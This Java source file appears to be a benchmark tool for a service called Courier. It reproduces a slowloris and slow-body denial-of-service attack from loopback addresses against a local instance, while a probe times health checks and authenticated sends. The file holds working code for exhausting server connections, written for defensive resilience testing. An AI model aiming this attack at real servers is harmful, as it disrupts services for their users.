package dev.courier.bench;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.HdrHistogram.Histogram;

/**
 * The slow-client attack of issue 9, against a running Courier: thousands of connections that send a request
 * body (or headers) a few bytes every few seconds, from other source addresses than the probe's, while a probe
 * measures how long {@code /actuator/health} and an authenticated send take for everyone else.
 *
 * <pre>java -cp bench/target/courier-bench.jar dev.courier.bench.SlowClients --url http://127.0.0.1:8080
 *     --admin-token secret [--slow-bodies 5000] [--slowloris 1000] [--sources 50] [--seconds 30] [--with-key]</pre>
 *
 * Attackers connect from 127.0.1.1 … 127.0.1.{sources} (every 127/8 address is this machine's), the probe from
 * 127.0.0.1. A connection the server closes is opened again, so the attack keeps its size. {@code --with-key}
 * sends the slow bodies with a real API key (an attacker who signed up) instead of a bogus one.
 */
public final class SlowClients {

    private static final Duration DRIP = Duration.ofSeconds(5);
    private static final int PROBE_TIMEOUT_MILLIS = 5_000;

    private final String host;
    private final int port;
    private final int sources;
    private final String attackKey;
    private final AtomicInteger opened = new AtomicInteger();
    private final AtomicInteger refused = new AtomicInteger();
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final AtomicBoolean running = new AtomicBoolean(true);

    private SlowClients(String host, int port, int sources, String attackKey) {
        this.host = host;
        this.port = port;
        this.sources = sources;
        this.attackKey = attackKey;
    }

    public static void main(String[] args) throws Exception {
        Map<String, String> options = options(args);
        URI url = URI.create(options.getOrDefault("url", "http://127.0.0.1:8080"));
        var admin = new Api(url.toString(), options.get("admin-token"));
        Api app = admin.newApp("slow-clients-" + System.nanoTime());
        int slowBodies = Integer.parseInt(options.getOrDefault("slow-bodies", "5000"));
        int slowloris = Integer.parseInt(options.getOrDefault("slowloris", "1000"));
        int sources = Integer.parseInt(options.getOrDefault("sources", "50"));
        int seconds = Integer.parseInt(options.getOrDefault("seconds", "30"));
        String attackKey = options.containsKey("with-key") ? app.token() : "ck_1_bogus";
        var attack = new SlowClients(url.getHost(), url.getPort(), sources, attackKey);

        System.out.printf(
                "before the attack: %s%n", attack.probe(app, Duration.ofSeconds(5)).summary());
        List<Thread> attackers = new ArrayList<>();
        attackers.add(daemon(() -> attack.hold(slowBodies, true)));
        attackers.add(daemon(() -> attack.hold(slowloris, false)));
        Probe during = attack.probe(app, Duration.ofSeconds(seconds));
        attack.running.set(false);
        System.out.printf(
                "under %d slow bodies (%s key) + %d slow headers from %d addresses, %d s: %s%n"
                        + "attack connections opened %d, refused at connect %d, closed by the server %d%n",
                slowBodies,
                options.containsKey("with-key") ? "valid" : "bogus",
                slowloris,
                sources,
                seconds,
                during.summary(),
                attack.opened.get(),
                attack.refused.get(),
                attack.closedByServer.get());
        for (Thread attacker : attackers) {
            attacker.join(TimeUnit.SECONDS.toMillis(30));
        }
    }

    /** Keeps {@code count} slow connections open, dripping a few bytes into each every {@link #DRIP}. */
    private void hold(int count, boolean body) {
        List<Socket> sockets = new ArrayList<>();
        int next = 0;
        while (running.get()) {
            long roundStart = System.nanoTime();
            for (int i = 0; i < sockets.size() && running.get(); i++) {
                if (!drip(sockets.get(i), body)) {
                    closedByServer.incrementAndGet();
                    sockets.set(i, open(next++, body));
                }
            }
            while (sockets.size() < count && running.get() && System.nanoTime() - roundStart < DRIP.toNanos()) {
                sockets.add(open(next++, body));
            }
            long rest = DRIP.toNanos() - (System.nanoTime() - roundStart);
            if (rest > 0) {
                sleep(TimeUnit.NANOSECONDS.toMillis(rest));
            }
        }
        sockets.forEach(SlowClients::closeQuietly);
    }

    private Socket open(int index, boolean body) {
        var socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(InetAddress.getByName("127.0.1." + (1 + index % sources)), 0));
            socket.connect(new InetSocketAddress(host, port), 2_000);
            String start = body
                    ? "POST /v1/commands HTTP/1.1\r\nHost: courier\r\nAuthorization: Bearer " + attackKey
                            + "\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"device_id\""
                    : "GET /actuator/health HTTP/1.1\r\nHost: courier\r\n";
            socket.getOutputStream().write(start.getBytes(StandardCharsets.US_ASCII));
            opened.incrementAndGet();
        } catch (IOException refusedOrReset) {
            refused.incrementAndGet();
        }
        return socket;
    }

    /** Writes the next few bytes; false once the server has closed the connection. */
    private static boolean drip(Socket socket, boolean body) {
        if (socket.isClosed() || !socket.isConnected()) {
            return false;
        }
        try {
            InputStream in = socket.getInputStream();
            if (in.available() > 0) { // the server answered (an error, or a 401): it is done with this one
                closeQuietly(socket);
                return false;
            }
            OutputStream out = socket.getOutputStream();
            out.write((body ? "     " : "X-a: b\r\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            return true;
        } catch (IOException closed) {
            closeQuietly(socket);
            return false;
        }
    }

    record Probe(Histogram health, Histogram send, int failures) {
        String summary() {
            return String.format(
                    "health %s; send %s; failed or over %d ms: %d",
                    Latencies.summary(health),
                    Latencies.summary(send),
                    PROBE_TIMEOUT_MILLIS,
                    failures);
        }
    }

    /** Every 200 ms one health request and one send, each on a new connection from 127.0.0.1. */
    private Probe probe(Api app, Duration length) {
        var health = new Histogram(3);
        var send = new Histogram(3);
        int failures = 0;
        long end = System.nanoTime() + length.toNanos();
        while (System.nanoTime() < end) {
            long healthMicros = timed("GET /actuator/health HTTP/1.1\r\nHost: courier\r\nConnection: close\r\n\r\n");
            String body = "{\"device_id\":\"dev_probe\",\"name\":\"ping\"}";
            long sendMicros = timed("POST /v1/commands HTTP/1.1\r\nHost: courier\r\nConnection: close\r\n"
                    + "Authorization: Bearer " + app.token() + "\r\nContent-Type: application/json\r\n"
                    + "Content-Length: " + body.length() + "\r\n\r\n" + body);
            if (healthMicros < 0 || sendMicros < 0) {
                failures++;
            }
            health.recordValue(healthMicros < 0 ? PROBE_TIMEOUT_MILLIS * 1000L : healthMicros);
            send.recordValue(sendMicros < 0 ? PROBE_TIMEOUT_MILLIS * 1000L : sendMicros);
            sleep(200);
        }
        return new Probe(health, send, failures);
    }

    /** Microseconds until the status line arrived, or -1 if it did not within the timeout. */
    private long timed(String request) {
        long start = System.nanoTime();
        try (var socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), PROBE_TIMEOUT_MILLIS);
            socket.setSoTimeout(PROBE_TIMEOUT_MILLIS);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            byte[] status = socket.getInputStream().readNBytes(12);
            if (status.length < 12 || status[9] == '5') { // "HTTP/1.1 5xx": a server failure counts as one
                return -1;
            }
            return (System.nanoTime() - start) / 1000;
        } catch (IOException timedOut) {
            return -1;
        }
    }

    private static Map<String, String> options(String[] args) {
        Map<String, String> options = new HashMap<>();
        for (int i = 0; i < args.length; i++) {
            String name = args[i].replaceFirst("^--", "");
            boolean flag = i + 1 >= args.length || args[i + 1].startsWith("--");
            options.put(name, flag ? "" : args[++i]);
        }
        return options;
    }

    private static Thread daemon(Runnable task) {
        var thread = new Thread(task, "slow-clients");
        thread.setDaemon(true);
        thread.start();
        return thread;
    }

    private static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException interrupted) {
            Thread.currentThread().interrupt();
        }
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException ignored) {
            // already gone
        }
    }
}
